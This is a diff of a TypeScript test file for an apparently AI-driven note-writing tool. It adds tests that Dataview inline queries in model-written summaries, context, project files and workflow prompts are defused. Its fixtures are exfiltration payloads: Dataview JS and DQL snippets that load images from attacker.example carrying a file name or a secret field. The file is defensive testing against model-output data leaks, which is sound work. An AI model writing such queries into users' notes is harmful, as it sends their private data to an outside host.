@@ -32,6 +32,23 @@ function expectInert(text: string): void {
   expect(text).toContain('attacker.example'); // still readable: the user sees what the model wrote
 }
 
+/** The granular tools with request_workflow_change, whose submitted requests land in `queued`. */
+function workflowTools(session: TestSession) {
+  const queued: WorkflowRequest[] = [];
+  const defs = toolDefinitions(session.session, {
+    approvalGated: createApprovalGatedTools(session.session, {
+      prompt: { request: async () => 'denied' },
+      workflow: {
+        submit: (r) => {
+          queued.push(r);
+          return 'requested';
+        },
+      },
+    }),
+  });
+  return { defs, queued };
+}
+
 describe('S17: model-written remote images and loading HTML are defused on every write', () => {
   it('write_summary: the draft holds plain links and text; the answer says what was defused', async () => {
     t = await sampleSession(MEETINGS.functional);
@@ -97,22 +114,55 @@ describe('S17: model-written remote images and loading HTML are defused on every
 
   it('request_workflow_change: the prompt the user approves and the daemon saves is defused', async () => {
     t = await sampleSession(MEETINGS.functional);
-    const queued: WorkflowRequest[] = [];
-    const defs = toolDefinitions(t.session, {
-      approvalGated: createApprovalGatedTools(t.session, {
-        prompt: { request: async () => 'denied' },
-        workflow: {
-          submit: (r) => {
-            queued.push(r);
-            return 'requested';
-          },
-        },
-      }),
-    });
+    const { defs, queued } = workflowTools(t);
     const out = await defs
       .find((d) => d.name === 'request_workflow_change')
       ?.execute({ intention: 'Add a logo', prompt: `Put this in the template: ${IMAGE}\n${TAG}` });
     expect(out).toMatch(/^requested: .*defused 2 items/s);
     expectInert(`${queued[0]?.prompt ?? ''}`);
+  });
+});
+
+describe('S17 follow-up: Dataview inline queries in model text are defused on every write', () => {
+  const JS = '`$= dv.el("img", "", {attr: {src: "https://attacker.example/q?d=" + dv.current().file.name}})`';
+  const DQL = '`= "![](https://attacker.example/p.png?d=" + [[Secret]].pay + ")"`';
+  /** No inline code span or code block left that starts with a Dataview prefix. */
+  function expectNoQuery(text: string): void {
+    expect(text).not.toMatch(/`\s*\$?=/);
+    expect(text).toContain('\\$= dv.el');
+  }
+
+  it('write_summary, write_context, write_projectfile and the compact apply_changes', async () => {
+    t = await sampleSession(MEETINGS.functional);
+    const summary = await runTool(t.session, 'write_summary', {
+      content: `## Summary\n- We met ${JS} ${DQL}\n`,
+      replace_file: true,
+    });
+    expect(summary).toMatch(/defused 2 items .*2 Dataview inline queries/);
+    expectNoQuery(t.session.summaryDraft.read() ?? '');
+    expect(await runTool(t.session, 'write_context', { content: `notes ${JS}` })).toMatch(/defused 1 item/);
+    expectNoQuery(await readFile(path.join(t.root, CONTEXT), 'utf8'));
+    const rel = 'Projects/remote-control/decisions.md';
+    const out = await runTool(t.session, 'write_projectfile', {
+      project: 'remote-control',
+      path: 'decisions.md',
+      content: `- Rubber casing ${JS}\n\`\`\`\n$= dv.view("x")\n\`\`\``,
+    });
+    expect(out).toMatch(/defused 2 items/);
+    expectNoQuery(await readFile(path.join(t.root, rel), 'utf8'));
+    const apply = toolDefinitions(t.session, { profile: 'compact' }).find((d) => d.name === 'apply_changes');
+    const compact = await apply?.execute({ ops: [{ op: 'write_context', content: `more ${JS}` }] });
+    expect(compact).toMatch(/defused 1 item/);
+    expectNoQuery(await readFile(path.join(t.root, CONTEXT), 'utf8'));
+  });
+
+  it('request_workflow_change: the prompt the user approves holds no runnable inline query', async () => {
+    t = await sampleSession(MEETINGS.functional);
+    const { defs, queued } = workflowTools(t);
+    const out = await defs
+      .find((d) => d.name === 'request_workflow_change')
+      ?.execute({ intention: 'Show the file name', prompt: `Put this in the template: ${JS}` });
+    expect(out).toMatch(/^requested: .*defused 1 item/s);
+    expectNoQuery(queued[0]?.prompt ?? '');
   });
 });
